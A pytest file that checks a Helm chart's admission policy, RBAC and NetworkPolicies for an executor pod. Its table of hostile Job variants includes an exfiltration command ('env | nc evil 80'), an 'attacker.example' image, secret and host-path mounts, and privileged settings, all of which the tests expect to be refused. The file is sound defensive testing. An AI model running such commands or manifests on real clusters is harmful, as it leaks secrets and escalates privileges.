"""Issue 27, finding 10: what one executor pod can reach, as the chart renders it.

* The ValidatingAdmissionPolicy admits from the worker's service account only the Job the worker
  builds (from the chart's own ConfigMap) and its login Secret; each hostile variant of either
  is refused (the policy's CEL evaluated by ``tests.unit.helm.admission``).
* With execution logins (the default) the Job never reads STUDIO_SECRET_KEY or the deployment's
  STUDIO_DATABASE_URL, and the Role adds only the creation of Secrets.
* Every pod of the chart, and the executor pods, is selected by a NetworkPolicy; every egress to
  0.0.0.0/0 excepts each IPv4 block the egress proxy refuses as not public (100.64.0.0/10 among
  them); the production example's setup allowlist passes the real proxy rules and its
  NetworkPolicy.
"""

from __future__ import annotations

import copy
import ipaddress
from typing import Any

import pytest
from kubernetes import client
from pydantic import SecretStr

from services.execution.network.allowlist import parse_allowlist, public_address
from services.executors.pod_manifest import (
    DATABASE_URL,
    build_job,
    job_labels,
    job_to_dict,
    login_secret,
)
from services.executors.selection import job_settings
from services.settings import StudioSettings
from tests.unit.helm.admission import admission_policy, refusals
from tests.unit.helm.chart import (
    NAMESPACE,
    PRODUCTION_VALUES,
    load_values,
    notes,
    one,
    pod_specs,
    render,
    role_grants,
    schema_refusal,
)

EXECUTION_ID = "5a1b2c3d-4e5f-4a6b-8c7d-8e9f0a1b2c3d"
WORKER = f"system:serviceaccount:{NAMESPACE}:studio-worker"
VALUE_SETS = {"default": {}, "production": load_values(PRODUCTION_VALUES)}
# Every IPv4 block the egress proxy refuses as not public (services.execution.network.
# allowlist.public_address), one row each: a pod's egress to 0.0.0.0/0 must except them all.
REFUSED_IPV4 = ("0.0.0.0/8", "10.0.0.0/8", "100.64.0.0/10", "127.0.0.0/8", "169.254.0.0/16",
                "172.16.0.0/12", "192.0.0.0/24", "192.0.2.0/24", "192.168.0.0/16",
                "198.18.0.0/15", "198.51.100.0/24", "203.0.113.0/24", "224.0.0.0/4",
                "240.0.0.0/4")


def _settings(objects: list[dict[str, Any]]) -> StudioSettings:
    data = one(objects, "ConfigMap", "studio")["data"]
    return StudioSettings(**{key.removeprefix("STUDIO_").lower(): value
                             for key, value in data.items() if key.startswith("STUDIO_")})


def _worker_job(objects: list[dict[str, Any]]) -> client.V1Job:
    settings = _settings(objects)
    job = build_job(EXECUTION_ID, image=settings.kube_image or "", namespace=NAMESPACE,
                    settings=job_settings(settings))
    assert job.metadata is not None
    job.metadata.uid = "0b1c2d3e-0000-4000-8000-000000000001"  # as the API server answers
    return job


def _secret(job: client.V1Job) -> dict[str, Any]:
    values = {DATABASE_URL: SecretStr("postgresql://studio_exec_x:pw@db/studio"),
              "STUDIO_GITHUB_TOKEN": SecretStr("ghs_handed")}
    data: dict[str, Any] = client.ApiClient().sanitize_for_serialization(  # type: ignore[no-untyped-call]
        login_secret(job, values))
    return data


@pytest.fixture(scope="module", params=sorted(VALUE_SETS))
def rendered(request: pytest.FixtureRequest) -> list[dict[str, Any]]:
    return render(copy.deepcopy(VALUE_SETS[request.param]) or None)


def test_the_worker_job_and_its_login_secret_are_admitted(
        rendered: list[dict[str, Any]]) -> None:
    jobs, secrets = admission_policy(rendered, "jobs"), admission_policy(rendered, "secrets")
    job = _worker_job(rendered)
    assert refusals(jobs, job_to_dict(job), resource="jobs", username=WORKER) == []
    assert refusals(secrets, _secret(job), resource="secrets", username=WORKER) == []
    # the policy matches the worker only: others have no RBAC grant to create Jobs at all
    assert refusals(jobs, job_to_dict(job), resource="jobs", username="alice") is None


def _mutate(path: str, value: Any) -> Any:
    def apply(job: dict[str, Any]) -> None:
        spec = job["spec"]["template"]["spec"]
        container = spec["containers"][0]
        targets = {"pod": spec, "container": container, "job": job}
        where, _, key = path.partition(".")
        value(targets[where], key) if callable(value) else targets[where].__setitem__(key, value)
    return apply


def _append(key: str, item: Any) -> Any:
    return lambda target, _: target.setdefault(key, []).append(item)


HOSTILE_JOBS = {
    "another image": _mutate("container.image", "attacker.example/steal:1"),
    "a shell": _mutate("container.command", ["sh", "-c", "env | nc evil 80"]),
    "extra args": _mutate("container.args", ["--debug"]),
    "another service account": _mutate("pod.serviceAccountName", "studio-worker"),
    "the token mounted": _mutate("pod.automountServiceAccountToken", True),
    "host network": _mutate("pod.hostNetwork", True),
    "host PID": _mutate("pod.hostPID", True),
    "a node pinned": _mutate("pod.nodeName", "control-plane"),
    "an init container": _mutate("pod.initContainers", [{"name": "i", "image": "x"}]),
    "privileged": lambda job: job["spec"]["template"]["spec"]["containers"][0][
        "securityContext"].update(privileged=True),
    "privilege escalation": lambda job: job["spec"]["template"]["spec"]["containers"][0][
        "securityContext"].update(allowPrivilegeEscalation=True),
    "a capability added": lambda job: job["spec"]["template"]["spec"]["containers"][0][
        "securityContext"]["capabilities"].update(add=["NET_ADMIN"]),
    "root": lambda job: job["spec"]["template"]["spec"]["securityContext"].update(
        runAsNonRoot=False),
    "a hostPath volume": _mutate("pod.volumes", _append("volumes", {
        "name": "host", "hostPath": {"path": "/"}})),
    "the worker's secrets mounted": _mutate("pod.volumes", _append("volumes", {
        "name": "s", "secret": {"secretName": "studio-secrets"}})),
    "the master key from the executor Secret": _mutate("container.env", _append("env", {
        "name": "STUDIO_SECRET_KEY", "valueFrom": {"secretKeyRef": {
            "name": "studio-executor-secrets", "key": "STUDIO_SECRET_KEY"}}})),
    "the master key under another name": _mutate("container.env", _append("env", {
        "name": "X", "valueFrom": {"secretKeyRef": {
            "name": "studio-executor-secrets", "key": "STUDIO_SECRET_KEY"}}})),
    "the worker's database URL": _mutate("container.env", _append("env", {
        "name": "Y", "valueFrom": {"secretKeyRef": {
            "name": "studio-secrets", "key": "STUDIO_DATABASE_URL"}}})),
    "another Job's login": lambda job: [e for e in job["spec"]["template"]["spec"][
        "containers"][0]["env"] if e["name"] == DATABASE_URL][0]["valueFrom"][
        "secretKeyRef"].update(name="studio-exec-ffffffffffff-login"),
    "envFrom a Secret": _mutate("container.envFrom", [{"secretRef": {"name": "studio-secrets"}}]),
    "another label": lambda job: job["spec"]["template"]["metadata"]["labels"].update({
        "app.kubernetes.io/name": "studio"}),
}


@pytest.mark.parametrize("change", sorted(HOSTILE_JOBS))
def test_a_hostile_job_from_the_worker_is_refused(rendered: list[dict[str, Any]],
                                                  change: str) -> None:
    policy = admission_policy(rendered, "jobs")
    job = job_to_dict(_worker_job(rendered))
    assert refusals(policy, job, resource="jobs", username=WORKER) == []  # positive control
    HOSTILE_JOBS[change](job)
    assert refusals(policy, job, resource="jobs", username=WORKER), change


HOSTILE_SECRETS = {
    "another name": lambda s: s["metadata"].update(name="studio-secrets"),
    "no owner": lambda s: s["metadata"].pop("ownerReferences"),
    "owned by another Job": lambda s: s["metadata"]["ownerReferences"][0].update(
        name="studio-exec-ffffffffffff"),
    "an extra key": lambda s: s["data"].update(STUDIO_SECRET_KEY="eA=="),
    "stringData": lambda s: s.update(stringData={"x": "y"}),
}


@pytest.mark.parametrize("change", sorted(HOSTILE_SECRETS))
def test_a_hostile_secret_from_the_worker_is_refused(change: str) -> None:
    objects = render()
    policy = admission_policy(objects, "secrets")
    secret = _secret(_worker_job(objects))
    assert refusals(policy, secret, resource="secrets", username=WORKER) == []
    HOSTILE_SECRETS[change](secret)
    assert refusals(policy, secret, resource="secrets", username=WORKER), change


def test_the_pod_never_reads_the_master_secrets(rendered: list[dict[str, Any]]) -> None:
    job = job_to_dict(_worker_job(rendered))
    env = job["spec"]["template"]["spec"]["containers"][0]["env"]
    refs = {e["name"]: e["valueFrom"]["secretKeyRef"] for e in env if "valueFrom" in e}
    assert "STUDIO_SECRET_KEY" not in refs
    assert refs[DATABASE_URL] == {"name": "studio-exec-5a1b2c3d4e5f-login",
                                  "key": DATABASE_URL}
    assert not {ref["key"] for ref in refs.values()} & {"STUDIO_SECRET_KEY"}
    assert ("", "secrets", "create") in role_grants(rendered)
    assert ("", "secrets", "get") not in role_grants(rendered)


def test_without_logins_the_worker_creates_no_secret_and_the_pod_reads_the_old_keys() -> None:
    objects = render({"executor": {"executionLogins": False}})
    assert ("", "secrets", "create") not in role_grants(objects)
    job = _worker_job(objects)
    assert refusals(admission_policy(objects, "jobs"), job_to_dict(job), resource="jobs",
                    username=WORKER) == []
    assert refusals(admission_policy(objects, "secrets"), _secret(job), resource="secrets",
                    username=WORKER)


def test_the_namespace_can_be_rendered_restricted() -> None:
    objects = render({"admission": {"createNamespace": True, "executorPolicy": True,
                                    "podSecurityLevel": "restricted"}})
    namespace = one(objects, "Namespace")
    assert namespace["metadata"]["name"] == NAMESPACE
    assert namespace["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"
    assert not [o for o in render() if o["kind"] == "Namespace"]  # off by default


def _selected(policy: dict[str, Any], labels: dict[str, str]) -> bool:
    return policy["spec"]["podSelector"]["matchLabels"].items() <= labels.items()


def test_every_pod_is_selected_by_exactly_one_network_policy(
        rendered: list[dict[str, Any]]) -> None:
    policies = [o for o in rendered if o["kind"] == "NetworkPolicy"]
    pods = [(o["metadata"]["name"], o["spec"]["template"]["metadata"]["labels"])
            for o in rendered if o["kind"] in ("Deployment", "Job")]
    pods.append(("executor", job_labels(EXECUTION_ID)))
    assert len(pods) >= 5
    for name, labels in pods:
        selecting = [p["metadata"]["name"] for p in policies if _selected(p, labels)]
        assert len(selecting) == 1, (name, selecting)
    for policy in policies:
        assert policy["spec"]["policyTypes"] == ["Ingress", "Egress"]


def _egress_blocks(rendered: list[dict[str, Any]]) -> list[tuple[str, dict[str, Any]]]:
    return [(policy["metadata"]["name"], peer["ipBlock"])
            for policy in rendered if policy["kind"] == "NetworkPolicy"
            for rule in policy["spec"]["egress"] for peer in rule.get("to", [])
            if "ipBlock" in peer]


@pytest.mark.parametrize("network", REFUSED_IPV4)
def test_every_egress_to_anywhere_excepts_each_refused_block(
        rendered: list[dict[str, Any]], network: str) -> None:
    block = ipaddress.ip_network(network)
    assert not public_address(block[0])  # a block the proxy refuses (the policy may be wider)
    # every block open to anywhere, but the Kubernetes API server's (networkPolicy.
    # kubernetesApi: its default is anywhere on 443/6443 until the control plane is named)
    wide = [(name, b) for name, b in _egress_blocks(rendered) if b["cidr"] == "0.0.0.0/0"
            and not (name.endswith("-worker") and not b.get("except"))]
    assert len(wide) >= 4
    for name, ip_block in wide:
        excepted = [ipaddress.ip_network(e) for e in ip_block.get("except", [])]
        assert any(block.subnet_of(e) for e in excepted), (name, network)  # type: ignore[arg-type]


def test_the_production_allowlist_passes_the_proxy_and_the_network_policy() -> None:
    values = load_values(PRODUCTION_VALUES)
    entries = values["setupPhase"]["allowlist"]
    policy = parse_allowlist(entries, addresses=True)
    index = ipaddress.ip_address("10.20.8.15")
    assert policy.host_allowed("pypi.internal.example", 3141)
    assert policy.address_allowed(index, 3141)
    # the positive control: the name alone (the example before) is refused at its address
    named_only = parse_allowlist([e for e in entries if e != "10.20.8.15:3141"],
                                 addresses=True)
    assert not named_only.address_allowed(index, 3141)
    executor = one(render(values), "NetworkPolicy", "-executor")["spec"]["egress"]
    for address, port in policy.pinned:
        assert any(ipaddress.ip_address(address) in ipaddress.ip_network(peer["ipBlock"]["cidr"])
                   and not any(ipaddress.ip_address(address) in ipaddress.ip_network(e)
                               for e in peer["ipBlock"].get("except", []))
                   and {"protocol": "TCP", "port": port} in rule["ports"]
                   for rule in executor for peer in rule["to"] if "ipBlock" in peer), address
    for rule in policy.rules:  # a name on a port no public egress opens needs a pinned address
        if rule.port is not None and rule.port != 443:
            assert any(port == rule.port for _, port in policy.pinned), rule.text()


def test_the_otlp_collector_is_reachable_where_traces_are_exported() -> None:
    values = load_values(PRODUCTION_VALUES)
    port = int(values["observability"]["otlpEndpoint"].rsplit(":", 1)[1])
    objects = render(values)
    for policy in (o for o in objects if o["kind"] == "NetworkPolicy"):
        if policy["metadata"]["name"].endswith("-migrations"):
            continue  # `studio db upgrade` exports nothing
        ports = {p["port"] for rule in policy["spec"]["egress"] for p in rule["ports"]}
        assert port in ports, policy["metadata"]["name"]
    assert [spec for _, spec in pod_specs(objects)]


def test_the_notes_warn_where_the_reach_is_wider() -> None:
    default = notes(None)
    assert "WARNING: executor.executionLogins=false" not in default
    assert "pod-security.kubernetes.io/enforce=restricted" in default
    assert "kubernetesApi.cidrs is 0.0.0.0/0" in default
    wider = notes({"executor": {"executionLogins": False}})
    assert "WARNING: executor.executionLogins=false" in wider
    production = notes(load_values(PRODUCTION_VALUES))
    assert "enforce=restricted" not in production  # the chart renders the namespace
    assert "kubernetesApi.cidrs" not in production


@pytest.mark.parametrize(("change", "message"), [
    ({"executor": {"executionLogins": "yes"}}, "/executor/executionLogins"),
    ({"networkPolicy": {"kubernetesApi": {"cidrs": []}}}, "/networkPolicy/kubernetesApi/cidrs"),
    ({"networkPolicy": {"egress": [{"cidr": "anywhere", "ports": [443]}]}},
     "/networkPolicy/egress/0/cidr"),
    ({"admission": {"podSecurityLevel": "privileged"}}, "/admission/podSecurityLevel"),
    ({"networkPolicy": {"apiFrom": "everyone"}}, "/networkPolicy/apiFrom"),
])
def test_bad_reach_values_are_refused_with_the_schemas_message(change: dict[str, Any],
                                                               message: str) -> None:
    assert message in schema_refusal(change)
